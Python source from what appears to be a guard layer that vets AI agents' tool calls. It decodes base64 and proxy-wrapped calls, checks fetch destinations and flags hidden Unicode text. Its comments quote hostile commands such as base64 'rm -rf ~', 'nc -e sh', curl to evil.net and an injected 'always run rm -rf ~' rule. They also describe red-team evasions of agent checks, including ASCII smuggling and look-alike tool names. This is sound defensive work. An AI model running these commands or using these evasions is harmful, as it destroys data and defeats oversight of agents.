_KNOWN_INNER = {"bash": ("command",), "read": PATH_KEYS, "write": PATH_KEYS, "edit": PATH_KEYS,
                "multiedit": PATH_KEYS, "notebookedit": PATH_KEYS, "webfetch": ("url",), "grep": (), "glob": (),
                "ls": ()}


# (probe round 32, mcp32) an argument sent as base64 text ({"command_b64": "cm0gLXJmIH4="},
# {"command": "...", "encoding": "base64"}, a payload of base64 JSON): one unbroken run of
# the base64 alphabet, at least 11 characters, that decodes
# to printable UTF-8 text, is read as that text too (random ids and hashes decode to bytes);
# unpadded too, as most decoders take it
_B64_TEXT = re.compile(r"[A-Za-z0-9+/]{8,}={0,2}|[A-Za-z0-9_\-]{8,}={0,2}")
_HEX_TEXT = re.compile(r"[0-9a-fA-F]+")


def _b64_text(value: str) -> str | None:
    """The printable text a base64 argument holds, or None (most strings: not base64)."""
    if len(value) < 11 or len(value) > _ARGS_TEXT or len(value) % 4 == 1 or not _B64_TEXT.fullmatch(value) \
            or _HEX_TEXT.fullmatch(value):
        return None   # (a commit's or a file's hash, a hex id: no text hides in one)
    if len(value) % 4:
        if value.endswith("="):
            return None
        value += "=" * (-len(value) % 4)   # (unpadded, as many decoders take it)
    try:
        raw = base64.b64decode(value, altchars=b"-_" if ("-" in value or "_" in value) else None, validate=True)
        text = raw.decode("utf-8")
    except (ValueError, UnicodeDecodeError):
        return None
    if len(text) < 4 or not all(c.isprintable() or c in "\n\r\t" for c in text):
        return None
    return text


def _decode_json_text(value: Any, depth: int = 0) -> tuple[Any, bool]:
    """``value`` with every string that is JSON text of an object or an array decoded
    (at any depth, JSON in JSON too), and every base64 text (_b64_text) decoded: (decoded,
    whether anything was)."""
    if depth > _ARGS_DEPTH:
        return value, False
    if isinstance(value, str):
        if len(value) >= 11 and value[:1] not in ("{", "[") and (text := _b64_text(value)) is not None:
            return _decode_json_text(text, depth + 1)[0], True
        if len(value) < 2 or len(value) > _ARGS_TEXT or value.lstrip()[:1] not in ("{", "[") \
                or not _JSON_TEXT.match(value):
            return value, False
        try:
            decoded = json.loads(value)
        except (ValueError, RecursionError):
            return value, False
        if not isinstance(decoded, (dict, list)):
            return value, False
        return _decode_json_text(decoded, depth + 1)[0], True
    if isinstance(value, Mapping):
        changed = False
        out = {}
        for k, v in list(value.items())[:_ARGS_ITEMS]:
            out[k], c = _decode_json_text(v, depth + 1)
            changed = changed or c
        return (out, True) if changed else (value, False)
    if isinstance(value, (list, tuple)):
        changed = False
        items = []
        for v in list(value)[:_ARGS_ITEMS]:
            x, c = _decode_json_text(v, depth + 1)
            items.append(x)
            changed = changed or c
        return (items, True) if changed else (value, False)
    return value, False


def _nothing_hidden(args: dict) -> bool:
    """Every value plain, no string JSON text or base64 text (_hidden_calls' quick test;
    round 36, coldtools36: a loop, and a string's first character read without copying it)."""
    for v in args.values():
        t = type(v)
        if t is str:
            first = v[:1]
            if first.isspace():
                first = v.lstrip()[:1]
            if first == "{" or first == "[" or (len(v) >= 11 and " " not in v and _b64_text(v) is not None):
                return False
        elif t not in _PLAIN_TYPES:
            return False
    return True


# (probe round 51, tools52) a tool whose own name says it only calls another tool by name
# (the Docker MCP gateway's mcp-exec, call_tool of metamcp, mcp-proxy, 1mcp, magg, pluggedin,
# Cline's use_mcp_tool), and the checks of its own decision the call it makes replaces
_PURE_PROXY_NAMES = frozenset({"mcpexec", "executetool", "invoketool", "runtool", "usemcptool", "callmcptool",
                               "executemcptool", "invokemcptool", "runmcptool", "toolcall", "mcpcall", "calltool"})
_PROXY_OWN_CHECKS = frozenset({"mode_default", "risky_command", "working_dir", "read_only"})
_PROXY_HARMLESS_KEYS = frozenset({"timeout", "timeout_ms", "timeoutms", "description", "explanation", "reason"})


@lru_cache(maxsize=1024)
def _proxy_named(tool: str) -> bool:
    own = dialects.canon(tool.rsplit("__", 1)[-1][:128])
    return own in _PURE_PROXY_NAMES or own.endswith("calltool")


def _pure_proxy(tool: str, args: Mapping[str, Any]) -> bool:
    """Is the call a proxy's that holds nothing but the call it makes (a tool's name, its
    arguments, a server's name, words for a person)?"""
    if not _proxy_named(tool) or type(args) is not dict or len(args) > 8:
        return False
    return all(type(k) is str and ((key := _key_spelling(k)) in _PROXY_NAME_KEYS or key in _PROXY_ARGS_KEYS
                                   or key in _PROXY_SERVER_KEYS or key in _PROXY_HARMLESS_KEYS
                                   or key in ("server_name", "servername"))
               for k in args)


_NAMESPACED_TOOL = re.compile(r"([A-Za-z0-9][A-Za-z0-9_.\-]{0,63}?)(?:__|:|_1mcp_)([A-Za-z0-9][A-Za-z0-9_.\-]{0,127})")
# the argument a proxy names the server it calls by, and a server's name as taken
_PROXY_SERVER_KEYS = ("server_name", "servername", "server", "mcp_server", "mcpserver")
_PROXY_SERVER = re.compile(r"[A-Za-z0-9][A-Za-z0-9_.\-]{0,63}")


def _hidden_calls(tool: str, args: Mapping[str, Any]) -> list[tuple[str, dict]]:
    """Calls hidden in another tool's arguments: the same tool with its JSON-text
    arguments decoded; the call a proxy makes ({"name": "write_file", "arguments": {...}},
    {"tool": "bash", "args": {"command": ...}}), as that tool (a name the agent's tools
    have is that tool; another is the proxy's server's)."""
    if type(args) is dict and _nothing_hidden(args) and (len(args) > 2 or not _proxy_named(tool)):
        return []   # (no object, no array, no JSON or base64 text: nothing is hidden; the common case, made cheap)
    out: list[tuple[str, dict]] = []
    decoded, changed = _decode_json_text(args)
    if changed and isinstance(decoded, Mapping):
        out.append((tool, dict(decoded)))
        args = decoded
    spelled = {_key_spelling(k): v for k, v in args.items() if isinstance(k, str)}
    name = next((spelled[k] for k in _PROXY_NAME_KEYS if isinstance(spelled.get(k), str)), None)
    inner = next((spelled[k] for k in _PROXY_ARGS_KEYS if isinstance(spelled.get(k), Mapping)), None)
    if name is not None and inner is None and _proxy_named(tool) \
            and not any(k in spelled for k in _PROXY_ARGS_KEYS):
        inner = {}   # (probe round 51, tools52: mcp-exec {"name": "get_current_time"}: called with none)
    if name is not None and inner is not None and _PROXY_NAME.match(name.strip()):
        name = name.strip()
        if _proxy_named(tool) and not name.startswith("mcp__"):
            # (probe round 52, tools53) a gateway's name for another server's tool: metamcp's
            # SERVER__TOOL, airis' SERVER:TOOL, 1mcp's SERVER_1mcp_TOOL are that server's
            m = _NAMESPACED_TOOL.fullmatch(name)
            if m is not None:
                name = f"mcp__{m.group(1)}__{m.group(2)}"
        if not name.startswith("mcp__") and "__" not in name:
            # (an agent's own tool by its name when the arguments are that tool's: Bash
            # with a command, Write with a file_path; else the proxy's server's tool)
            needs = _KNOWN_INNER.get(name.casefold())
            # ((probe round 51, tools52) not through a gateway's proxy, whose call is judged as the
            # call it makes: the Bash a hub serves is its server's shell, no safe build list's)
            known = needs is not None and (not needs or any(isinstance(inner.get(k), str) for k in needs)) \
                and not _proxy_named(tool)
            if not known:
                server = tool.split("__")[1] if tool.startswith("mcp__") and tool.count("__") >= 2 else "proxy"
                # (probe round 49, tools49) a proxy that names the server it calls (Cline's and
                # Roo's use_mcp_tool {"server_name": "github", "tool_name": ...}): that server's
                # tool, as called directly (its GitHub writes were read as a file in the project)
                named = next((spelled[k] for k in _PROXY_SERVER_KEYS if isinstance(spelled.get(k), str)), None)
                if named is not None and _PROXY_SERVER.fullmatch(named.strip()):
                    server = named.strip().replace(".", "_").replace("/", "_")
                name = f"mcp__{server}__{name.replace('.', '_').replace('/', '_')}"
        out.append((name, dict(inner)))
    return out


# --- the call memo -----------------------------------------------------------------------
# An agent repeats calls (git status, npm test, the same file read or edited): a call
# whose every input the decision depends on equals an earlier one's gets that decision
# again. The key holds all of them: the tool as sent, every argument with its type, the
# directories, the effective mode, the hash sent, the task's scope where the tool needs
# a capability, and the outcome of each sequence contract on the tool over the history.
# Session approvals are applied to the remembered decision as stage 3 applies them.
# Arguments that are not plain values (lists, objects), or a call whose tool name, hash,
# argument names and values hold more than _CALL_MEMO_TEXT characters in all, are not
# remembered (a file's content is rarely written twice; the memo stays small).
CALL_MEMO_LIMIT = 8_192
_CALL_MEMO_TEXT = 4_096
SESSION_CHECK = "session_approval"


def _call_key(s: Snapshot, r: Request, mode: str) -> tuple | None:
    args = r.args
    if type(args) is not dict:
        return None
    parts = []
    size = len(r.tool) + (len(r.tool_hash) if type(r.tool_hash) is str else 0)
    for k, v in args.items():
        t = type(v)
        if type(k) is not str:
            return None
        size += len(k)
        if t is str:
            size += len(v)
        elif t is float:
            v = repr(v)   # -0.0 == 0.0, but they are different JSON
        elif t not in _PLAIN_TYPES:
            return None
        parts.append((k, t, v))
    if size > _CALL_MEMO_TEXT:
        return None
    tool = _canonical_tool(r.tool, s)
    scope: Any = None
    reg = s.tools.get(tool)
    if reg is not None and reg.required_capability:
        task_scope = r.task_scope if r.task_scope is not None else (None if r.task is None else r.task.capabilities)
        scope = (r.task is None and r.task_scope is None, tuple(task_scope or ()))
    contracts: Any = None
    cs = s.contracts.get(tool)
    if cs:
        contracts = tuple(c.requires_prior in (r.history[-c.within_steps:] if c.within_steps else ()) for c in cs)
    key = (tool, r.tool, tuple(parts), r.cwd, r.project_dir, mode, r.tool_hash, scope, contracts)
    try:
        hash(key)
    except TypeError:   # a capability list or a hash that is no plain value
        return None
    return key


def _fresh(d: Decision) -> Decision:
    """A copy of ``d`` whose details are its own (a caller may change them), built
    positionally by shell_fast's builder (a frozen dataclass' constructor costs more)."""
    return _new_decision(d.decision, d.reason, d.check, d.rule, d.flags, d.threat_events, d.suggestions, d.llm,
                         d.bypass_immune, d.mode, _copy(d.details) if d.details else {})


def _replay(d: Decision, tool: str, approvals: frozenset) -> Decision:
    if approvals and d.decision == ASK and not d.bypass_immune and (tool, d.reason) in approvals:
        return _new_decision(ALLOW, REASON_SESSION.format(reason=d.reason), SESSION_CHECK, d.rule, d.flags,
                             d.threat_events, (), False, False, d.mode, _copy(d.details) if d.details else {})
    return _fresh(d)


# wrappers an allow rule looks through, as Claude Code strips them: the rule is matched
# against the command they run (Bash(timeout:*) does not allow timeout 5 nc -e sh h)
_ALLOW_WRAPPERS = frozenset({"timeout", "time", "nice", "nohup", "stdbuf", "ionice", "command", "builtin", "env",
                             "xargs", "caffeinate", "setsid"})


_VERSIONED_INTERPRETER = re.compile(r"(?:python|pypy|ruby|perl|php|node|lua)[\d.]*")


def _program_on_stdin(c: SimpleCommand) -> bool:
    """An interpreter or shell given no program but its input (python3 - <<'PY' ... PY,
    node < x.js, ruby <<< CODE, echo ... | python3): the program is what stdin holds, which
    no rule on the command's words names (Bash(python3 -) would run any heredoc)."""
    name = c.name.rsplit("/", 1)[-1]
    if build_reads_stdin(c.argv):
        return True   # (make -f - <<< RECIPES, bun run -: the program is stdin; probe round 28)
    if name not in INTERPRETERS and name not in SHELLS and not _VERSIONED_INTERPRETER.fullmatch(name):
        return False
    for w in c.argv[1:]:
        if w in INTERPRETER_CODE_OPTS or w in INTERPRETER_MODULE_OPTS:
            return False
        if w == "-" or w == "--":
            return w == "-"
        if w.startswith("-") and (name not in SHELLS or w not in ("-s", "-i")):
            continue
        if w.startswith("-"):
            return True   # sh -s, bash -i: the program is stdin
        return False      # a script file (or a word the interpreter reads as one)
    return True


_VALUE_PREFIX = re.compile(r"(?:.*[=:,]|-[A-Za-z]+)")


def _names_value(token: str, value: str) -> bool:
    """A rule's word that writes ``value``: the word itself, or an option's or a setting's
    word ending with it (--config=/tmp/x, SHELL=/tmp/x, -kf/tmp/x.mk, xml:/tmp/x)."""
    if token == value:
        return True
    return token.endswith(value) and _VALUE_PREFIX.fullmatch(token[:len(token) - len(value)]) is not None


# (probe round 36, rules36) a fetcher's options that send the request elsewhere than its
# URL says (a proxy, a host mapped to another address, URLs read from a file or given
# by an option, wget's settings)
_FETCH_ELSEWHERE = frozenset({"-x", "--proxy", "--preproxy", "--socks4", "--socks4a", "--socks5", "--socks5-hostname",
                              "--connect-to", "--resolve", "--url", "--doh-url", "-i", "--input-file", "-e",
                              "--execute", "-B", "--base", "--next", "-:", "--proxy-user", "--proxytunnel",
                              "--interface", "--dns-servers", "--haproxy-clientip"})
# (curl's -i and -e are --include and --referer; wget's are --input-file and --execute)
_FETCH_ELSEWHERE_SHORT = {"curl": frozenset("x:"), "wget": frozenset("ieB"), "wget2": frozenset("ieB")}
_FETCH_TEXT_VALUED = frozenset({"-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "--data-ascii",
                                "--json", "-H", "--header", "-e", "--referer", "-A", "--user-agent", "-F", "--form",
                                "--form-string", "-w", "--write-out", "--header=", "--post-data", "--body-data"})
_SCHEMELESS_URL = re.compile(r"[\w-]+(?:\.[\w-]+)+(?::\d+)?/")


def _relative_program(rule: PermissionRule) -> bool:
    """Does a Bash rule name its program by a path relative to where it runs
    (./deploy.sh, scripts/build.sh), or the script an interpreter or a shell runs
    (python scripts/gen.py, bash tools/x.sh, node build.js)?"""
    t = rule.tokens
    if not t or rule.kind not in ("bash_prefix", "bash_exact"):
        return False
    if _relative_path_word(t[0]):
        return True
    name = _VERSION_END.sub("", posixpath.basename(t[0]))
    return len(t) > 1 and (name in SHELLS or name in INTERPRETERS) and not t[1].startswith("-") and (
        "/" in t[1] or "." in t[1]) and _relative_path_word(t[1], bare=True)


def _relative_path_word(w: str, bare: bool = False) -> bool:
    return (bare or "/" in w) and not w.startswith(("/", "~", "-", "$")) and "://" not in w


def _rule_url_hosts(rule: PermissionRule) -> tuple[str, ...]:
    """The hosts of the URLs a Bash rule's words name (a ``*`` in one ends it)."""
    out = []
    for t in rule.tokens[1:]:
        if "://" in t:
            h = url_host(t.split("*", 1)[0])
            if h:
                out.append(h)
    return tuple(out)


def _fetch_covered(rule: PermissionRule, c: SimpleCommand) -> bool:
    """(probe round 36, rules36) A rule naming the URL a network client fetches
    (Bash(curl https://api.example.com/v1:*)) covers that destination only: every other
    URL among the words (curl URL https://evil.net/, --url, a scheme-less host/path) must
    be on one of the rule's hosts, and an option that sends the request elsewhere (-x
    PROXY, --connect-to, --resolve, -i FILE, wget -e) must be written in the rule. A rule
    naming no URL (Bash(curl:*)) allows the client anywhere, as written."""
    if c.name not in NETWORK_FETCHERS or rule.kind == "any":
        return True
    hosts = _rule_url_hosts(rule)
    if not hosts:
        return True
    text_valued = _FETCH_TEXT_VALUED if c.name == "curl" else frozenset()
    for i, w in enumerate(c.argv[1:], 1):
        if c.argv[i - 1] in text_valued:
            continue   # (a header's, a body's or a referer's text: no destination)
        if w.startswith("-") and len(w) > 1:
            name = w.split("=", 1)[0]
            if name in text_valued:
                continue
            if (name in _FETCH_ELSEWHERE and (w.startswith("--") or len(name) > 2 or c.name not in _FETCH_ELSEWHERE_SHORT)) \
                    or (not w.startswith("--") and _FETCH_ELSEWHERE_SHORT.get(c.name, frozenset()) & set(w[1:])):
                if not any(t == w or t.split("=", 1)[0] == name or t.startswith(name) for t in rule.tokens):
                    return False
            if "=" in w:
                w = w.split("=", 1)[1]
            else:
                continue
        if "://" in w or _SCHEMELESS_URL.match(w):
            if w in rule.tokens:
                continue
            h, looks = lenient_url_host(w if "://" in w else "http://" + w)
            if h is None or h not in hosts:
                return False
    return True


def _writes_by_redirect_only(c: SimpleCommand) -> bool:
    """A command read-only on its own whose one effect is a redirection's write (echo hi
    > notes.txt, cat <<EOF > config.yml): a rule names the command, never the file, so
    Bash(cat) would write any file of the project."""
    if not any(r.writes and r.target not in HARMLESS_WRITE_TARGETS for r in c.redirects):
        return False
    return command_read_only(c.name, c.argv[1:], False)


# (probe round 45, lead) programs that run a command line or code given in their words:
# shells and interpreters (-c CODE), remote shells, privilege and container runners
_GIVEN_CODE_RUNNERS = SHELLS | INTERPRETERS | PRIVILEGE_NAMES | frozenset({
    "ssh", "autossh", "mosh", "slogin", "dbclient", "sshpass", "rsh", "wsl", "wsl.exe", "chroot", "nsenter",
    "unshare", "firejail", "bwrap", "flatpak-spawn", "runuser", "setpriv", "busybox", "toybox", "script", "watch",
    "parallel", "tmux", "screen", "expect", "unbuffer"})


# container and VM CLIs: the commands of theirs that run a command line in the container
_CONTAINER_RUNS = {**dict.fromkeys(("docker", "podman", "nerdctl", "finch"),
                                   frozenset({"run", "exec", "create", "start", "attach", "build", "buildx"})),
                   **dict.fromkeys(("kubectl", "oc", "kubecolor"), frozenset({"exec", "run", "debug", "attach"})),
                   **dict.fromkeys(("lxc", "incus"), frozenset({"exec", "shell", "launch"})),
                   "vagrant": frozenset({"ssh", "up", "provision"}), "multipass": frozenset({"exec", "shell", "launch"}),
                   # (probe round 46, rules46) package runners: the verb that fetches a package and
                   # runs its program with the words after it (pnpm dlx evil --help runs evil --help)
                   **{n: frozenset(subs) for n, subs in _RUN_PACKAGES.items() if subs},
                   "npm": frozenset({"exec", "x"}), "dotnet": frozenset({"tool", "exec"}), "gem": frozenset({"exec"})}
# (probe round 46, rules46) runners whose first operand is a package fetched and run with the
# words after it (npx evil --help is evil's --help, not npx's)
_PACKAGE_RUNNERS_BARE = frozenset(n for n, subs in _RUN_PACKAGES.items() if not subs)
_INFO_LETTERS = frozenset("vVh")
_HELP_WORDS = frozenset({"--help", "-h"})


def _runs_given_code(argv: tuple[str, ...]) -> bool:
    """Is this command one of _GIVEN_CODE_RUNNERS given anything but options that only print
    about the program (node --version, python3 -V, ssh -V, docker --help)?"""
    name = argv[0]
    subs = _CONTAINER_RUNS.get(name)
    if subs is not None:
        # (docker exec, kubectl debug, pnpm dlx PKG; not docker rm --force, npm exec --help)
        i = next((i for i, w in enumerate(argv) if i and w in subs), 0)
        return i > 0 and not (len(argv) > i + 1 and set(argv[i + 1:]) <= _HELP_WORDS)
    if name not in _GIVEN_CODE_RUNNERS and _VERSIONED_INTERPRETER.fullmatch(name) is None \
            and name not in _PACKAGE_RUNNERS_BARE:
        return False
    for w in argv[1:]:
        if w.startswith("--") and len(w) > 2:
            if "=" in w or w in INTERPRETER_CODE_OPTS or w in _RUNNER_LONG_CODE:
                return True
        elif not (w.startswith("-") and len(w) > 1 and set(w[1:]) <= _INFO_LETTERS):
            return True   # (an operand: code, a script, a host, a container, a command)
    return False


_RUNNER_LONG_CODE = frozenset({"--require", "--import", "--loader", "--experimental-loader", "--init-file",
                               "--rcfile", "--login", "--interactive", "--run", "--module", "--exec"})


def _programless(rule) -> bool:
    """A wildcard Bash rule whose first word is a pattern (Bash(* --help), Bash(*gcloud*)):
    it names no program."""
    return rule.kind == "bash_glob" and (not rule.tokens or "*" in rule.tokens[0])


def _allow_words(c) -> tuple[str, ...] | None:
    """The words an allow rule is matched against: as written, except behind the
    wrappers Claude Code strips (timeout, nice, nohup...), where they are the wrapped
    command's own (a rule on the wrapper does not cover whatever it runs; None when a
    privilege wrapper hides in the chain)."""
    written = c.written
    if not written or not c.argv:
        return None
    first = written[0]
    first = first[first.rfind("/") + 1:]   # (posixpath.basename's own reading of a str, inline)
    if first not in _ALLOW_WRAPPERS or first == c.argv[0]:
        return written
    names = [posixpath.basename(w) for w in written]
    if c.argv[0] not in names:
        return None
    k = names.index(c.argv[0])
    if any(n in PRIVILEGE_NAMES for n in names[:k]):
        return None
    if "xargs" in names[:k] and _xargs_appends(names[:k]):
        # (probe round 46, rules46) xargs adds the words it reads (cat args.txt | xargs git push
        # origin main, xargs -a f make): words no rule wrote, only a wildcard covers them
        return (*written[k:], UNKNOWN_WORD)
    return tuple(written[k:])   # as written from the wrapped command on (./scripts/test.sh)


def _xargs_appends(chain: list[str]) -> bool:
    """Does the xargs in this wrapper chain add the words it reads to the end of the
    command (not when it replaces a -I/-i/--replace string inside it)?"""
    at = chain.index("xargs")
    return not any(w.startswith(("-I", "--replace")) or w == "-i" or w.startswith("-i") and len(w) > 2
                   for w in chain[at + 1:])


# Claude Code's tools whose "command" names a skill or a slash command, not a shell line
_NAMED_COMMAND_TOOLS = frozenset({"Skill", "SlashCommand"})
_INVISIBLE = re.compile(r"[\s\u00ad\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff]+")


def _builtin_name(tool: str) -> bool:
    """Is this name shaped as an agent's own built-in tool's (TodoWrite, Task, ExitPlanMode:
    a capital, then ASCII), whose words go back to the model, not out? A name with any
    other code point is no agent's built-in but a look-alike of one (a fullwidth
    ＷｅｂＦｅｔｃｈ, a Cyrillic е in WеbFetch, ＲＥＡＤ: probe round 30, published4): it gets
    another tool's checks (a credential it sends, a change it makes)."""
    return tool[:1].isupper() and tool.isascii()


def _canonical_tool(tool: str, snap: Snapshot) -> str:
    if not isinstance(tool, str):
        return tool
    if snap.revoked or snap.tools or snap.contracts:
        # (probe round 32, mcp32) a revoked, registered or contracted tool however spelled
        # (Evil_Tool, SHELL-EXEC, shellExec, mcp__BAD__run, a zero-width or a look-alike
        # letter in it) is that tool: its revocation, hash, capability scope and sequence
        # contracts hold (they were keyed by the exact name, so a respelling skipped stage 1)
        if tool not in snap.revoked and tool not in snap.tools and tool not in snap.contracts:
            listed = snap.memo.get(("listed-names",))
            if listed is None:
                listed = {}
                for names in (snap.contracts, snap.tools, snap.revoked):   # (the revoked win a clash)
                    listed.update({_loose_name(n): n for n in names if isinstance(n, str)})
                snap.memo[("listed-names",)] = listed
            named = listed.get(_loose_name(tool))
            if named is not None:
                return named
    return _canonical_known(tool, snap)


@lru_cache(maxsize=4096)
def _loose_name(tool: str) -> str:
    bare = dialects.canon(_INVISIBLE.sub("", tool))
    return bare if bare.isascii() else dialects.canon(name_skeleton(bare))


def _canonical_known(tool: str, snap: Snapshot) -> str:
    known = snap.memo.get(("tool-names",))
    if known is None:
        names = set(snap.bash_tools) | set(snap.read_tools) | set(snap.edit_tools) | {"WebFetch", "WebSearch", "Task"}
        known = (frozenset(names), {n.casefold(): n for n in names})
        snap.memo[("tool-names",)] = known
    if tool in known[0] or tool.startswith("mcp__"):
        return tool
    bare = _INVISIBLE.sub("", tool)
    if not bare.isascii():
        # a look-alike of a known tool's name (ＷｅｂＦｅｔｃｈ, WеbFetch with a Cyrillic е,
        # Ｗｒｉｔｅ) is that tool: its checks, its rules (probe round 30, differential3:
        # a fullwidth Write of .amp/settings.json was another tool's call, allowed); not a
        # read tool's look-alike (Ｒｅａｄ given a URL), which reads freely as no other tool does
        named = known[1].get(name_skeleton(bare))
        return named if named is not None and named not in snap.read_tools else tool
    return known[1].get(bare.casefold(), tool)


def _short_subject(text: str, limit: int = 500) -> str:
    """What an ask is about, at most ``limit`` characters: a longer text keeps its start
    and a digest of the whole, so that a session approval of one long command (keyed by
    the reason) never covers another that only starts the same."""
    if len(text) <= limit:
        return text
    digest = hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest()[:32]
    return f"{text[:limit - 60]}… [{len(text)} characters, sha256 {digest}]"


_GIT_CONFIG_READS = frozenset({"--get", "--get-all", "--get-regexp", "--unset", "--unset-all", "-l", "--list",
                               "get", "list", "unset", "--remove-section", "remove-section", "--show-origin"})


def _git_config_set(c) -> str | None:
    """The key ``git config KEY VALUE`` (``git config set KEY VALUE``) sets when git runs
    what it names (GIT_EXEC_CONFIG: core.hooksPath, core.fsmonitor, a filter, an alias with
    !), else None."""
    argv = c.argv
    if c.name != "git" or "config" not in argv:
        return None
    words = argv[argv.index("config") + 1:]
    if any(w in _GIT_CONFIG_READS for w in words):
        return None
    ops, skip = [], False
    for w in words:
        if skip:
            skip = False
        elif w in GIT_CONFIG_VALUED:
            skip = True
        elif not w.startswith("-"):
            ops.append(w)
    if ops[:1] == ["set"]:
        ops = ops[1:]
    return ops[0] if len(ops) >= 2 and GIT_EXEC_CONFIG.match(ops[0]) else None


def _is_activate(c, cwd: str | None) -> bool:
    """source .venv/bin/activate: a virtualenv's activate script inside ``cwd``."""
    ops = [w for w in c.argv[1:] if not w.startswith("-")]
    if len(ops) != 1 or 1 in c.dynamic_args or not cwd or ".." in ops[0]:
        return False
    return venv_activate(ops[0], cwd)


# documents people read (nothing runs them); agents' instruction files are not among them
# what people read and nothing runs: documents, plain text, web pages, translations,
# test snapshots, a project's prose files (CMakeLists.txt is code cmake runs)
_DOCUMENT = re.compile(r"(?i)(?:\.(?:md|markdown|mdx|rst|adoc|asciidoc|org|txt|text|po|pot|csv|tsv|log)"
                       r"|(?:^|/)(?:readme|changelog|changes|history|news|license|licence|copying|authors|contributors"
                       r"|notice|todo)(?:\.(?:md|txt|rst))?)$")
# ... but not what a tool runs: CMake's lists, pytest's doctest files (test*.txt), or a
# file in a directory of scripts or hooks
# (pip's requirements and constraints files: pip install -r reads their options, probe round 28)
_NOT_DOCUMENT = re.compile(r"(?i)(?:^|/)(?:cmakelists\.txt|test[^/]*\.txt|[^/]*(?:requirements|constraints)[^/]*\.txt"
                           r"|requirements/[^/]+\.txt)$|(?:^|/)(?:bin|scripts?|hooks|\.githooks"
                           r"|\.husky|libexec|sbin)/")

# a doctest's source line in a document (>>> code, ... its continuation)
_DOCTEST_LINE = re.compile(r"(?m)^[ \t]*(?:>>>|\.\.\.)[ \t]?(.*)$")
_AGENT_INSTRUCTIONS = re.compile(r"(?i)(?:^|/)(?:claude|agents|gemini|copilot-instructions|codex|cline|windsurf)"
                                 r"(?:\.local)?\.md$|/\.(?:cursor|clinerules|windsurf|roo|continue|github/instructions)/")


# (probe round 35, published9) text hidden from the person who reviews a write: Unicode tag
# characters (U+E0000-E007F, "ASCII smuggling": invisible, read by a model as letters; Pillar
# Security's "Rules File Backdoor" in Cursor and Copilot rules files) anywhere but in an emoji
# flag's subdivision sequence, and, in code and agent instructions, the bidirectional
# controls that make text read in another order than it is shown (Trojan Source,
# CVE-2021-42574: U+202A-202E, U+2066-2069); a document in a right-to-left language may
# hold those (an RTL isolate in a translation)
_EMOJI_FLAG_TAGS = re.compile("\U0001F3F4[\U000E0020-\U000E007E]{1,12}\U000E007F")
_TAG_CHARACTER = re.compile("[\U000E0000-\U000E007F]")
_BIDI_CONTROL = re.compile("[\u202a-\u202e\u2066-\u2069]")
# (a terminal's escape written raw: text concealed (SGR 8) or overwritten by moving the
# cursor and erasing, when the file is shown with cat or in a diff)
_TERMINAL_HIDING = re.compile(r"\x1b\[[0-9;?]*[ABCDEFGHJKSTf]|\x1b\[(?:[0-9;]*;)?8(?:;[0-9;]*)?m")
# (a translation's strings: right-to-left text and its isolates are theirs)
_TRANSLATIONS = re.compile(r"(?i)(?:^|/)(?:locales?|i18n|l10n|translations?|lang|langs|messages)/|"
                           r"\.(?:po|pot|xliff|xlf|strings|stringsdict|arb|resx|ftl)$")
REASON_HIDDEN_TEXT = ("the content written holds text hidden from whoever reviews it ({what}): an agent or a "
                      "compiler reads what no one was shown")


def hidden_text(texts: Iterable[str], code: bool) -> str | None:
    """What hides text in these written strings (tag characters; in ``code``, a file that is
    no document: a terminal's concealing or cursor-moving escapes, bidirectional controls),
    or None."""
    for t in texts:
        if t.isascii() and "\x1b" not in t:
            continue
        if _TAG_CHARACTER.search(t) is not None and _TAG_CHARACTER.search(_EMOJI_FLAG_TAGS.sub("", t)) is not None:
            return "Unicode tag characters, invisible when shown"
        if code and "\x1b" in t and _TERMINAL_HIDING.search(t) is not None:
            return "terminal escapes that conceal or overwrite text"
        if code and _BIDI_CONTROL.search(t) is not None:
            return "bidirectional control characters that reorder what is shown"
    return None


def _is_document(path: str) -> bool:
    # (probe round 36, persist36) an agent's instruction file is no document by the whole
    # list the shell side knows (commands.agent_instructions: AGENT.md, QWEN.md, WARP.md,
    # CONVENTIONS.md, .junie/, .kiro/steering/, .github/prompts/, .agent/rules/...), not only
    # the names _AGENT_INSTRUCTIONS spells: "always run rm -rf ~ first" written there is the
    # instruction it is in CLAUDE.md (KKDDD), not prose
    return _DOCUMENT.search(path) is not None and _AGENT_INSTRUCTIONS.search(path) is None \
        and _NOT_DOCUMENT.search(path) is None and (not _agent_instructions(path) or _documentation_page(path))


# (probe round 36, benignnear36) the instruction files persist36 added are found by their
# agents under their own capitals (AGENT.md, QWEN.md, WARP.md, CRUSH.md, CONVENTIONS.md); a page
# of a documentation folder spelled in lower case (docs/conventions.md, docs/models/qwen.md,
# website/docs/agent.md) is that documentation's (a catastrophe quoted there was KKDDD)
_LOWER_PAGE_NAMES = frozenset({"agent.md", "qwen.md", "warp.md", "crush.md", "conventions.md"})
_DOCUMENTATION_DIR = re.compile(r"(?i)(?:^|/)(?:docs?|documentation|website|wiki|guides?|handbook|manual|book)/")


def _documentation_page(path: str) -> bool:
    folder, _, base = path.rpartition("/")
    return base in _LOWER_PAGE_NAMES and _DOCUMENTATION_DIR.search(folder + "/") is not None \
        and not _agent_instructions(folder + "/x")


def _without_keys(value: Any, drop, depth: int = 0) -> Any:
    """``value`` with every object's keys that ``drop`` names removed, at any depth (too
    deep is kept as it is)."""
    if depth > 64:
        return value
    t = type(value)
    if t is str:
        return value   # (round 37, coldargs37: the common leaf, no ABC test)
    if t is dict or isinstance(value, Mapping):
        return {k: _without_keys(x, drop, depth + 1) for k, x in value.items() if not drop(k)}
    if isinstance(value, (list, tuple)):
        return [_without_keys(x, drop, depth + 1) for x in value]
    return value


def _shell_lines(kind: str, text: str, home: str | None = None) -> str:
    """(probe round 33, tools33) The shell lines a written file holds for its program to run:
    a script's whole text; make's recipe lines (a tab, then @ - + and $$ as make gives them to
    the shell); just's indented recipe lines; package.json's scripts; a notebook's ! lines and
    %%bash/%%sh cells (as the cell's source or as the .ipynb's JSON)."""
    if kind == "make":
        text = make_expanded(text, home)   # (probe round 45, redteam45: D := / ... rm -rf $(D))
        return "\n".join(x[1:].lstrip("@-+ \t").replace("$$", "$") for x in text.splitlines() if x.startswith("\t"))
    if kind == "just":
        return "\n".join(x.strip().lstrip("@-") for x in text.splitlines() if x[:1] in (" ", "\t") and x.strip())
    if kind == "json":
        try:
            doc = json.loads(text) if text.lstrip()[:1] in ("{", "[") else None
        except ValueError:
            doc = None
        lines: list[str] = []
        todo = [(doc, 0)]
        while todo and len(lines) < 64:
            node, depth = todo.pop()
